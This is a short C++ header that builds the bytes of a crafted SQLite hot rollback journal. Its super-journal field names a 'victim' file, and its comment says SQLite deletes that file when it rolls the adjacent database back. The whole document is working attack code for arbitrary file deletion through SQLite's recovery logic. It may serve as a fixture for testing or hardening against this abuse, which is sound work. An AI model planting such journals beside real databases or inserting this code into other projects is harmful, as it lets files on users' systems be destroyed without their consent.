#pragma once
// Rollback journals as SQLite leaves them beside a database when it is ended in the middle of a
// transaction over several databases. https://sqlite.org/fileformat2.html#the_rollback_journal

#include <cstdint>
#include <string>

/// The number in four bytes, the highest first.
inline std::string four_bytes(std::uint32_t value) {
  std::string bytes;
  for (int shift = 24; shift >= 0; shift -= 8) bytes += static_cast<char>(value >> shift & 0xffU);
  return bytes;
}

/// What lies in 'NAME-journal' beside a database of so many pages, and makes SQLite delete the file
/// `victim` once it has rolled the database back to what it is already.
inline std::string hot_journal(const std::string& victim, std::size_t pages,
                               std::size_t page_size) {
  const std::string magic("\xd9\xd5\x05\xf9\x20\xa1\x63\xd7");
  constexpr std::size_t sector = 512;
  constexpr std::uint32_t lock_byte = 0x40000000;
  std::string header = magic + four_bytes(0) + four_bytes(12345) +
                       four_bytes(static_cast<std::uint32_t>(pages)) + four_bytes(sector) +
                       four_bytes(static_cast<std::uint32_t>(page_size));
  header.resize(sector, '\0');
  std::uint32_t sum = 0;
  for (const char c : victim) sum += static_cast<std::uint32_t>(static_cast<signed char>(c));
  return header + four_bytes(lock_byte / static_cast<std::uint32_t>(page_size) + 1) + victim +
         four_bytes(static_cast<std::uint32_t>(victim.size())) + four_bytes(sum) + magic;
}
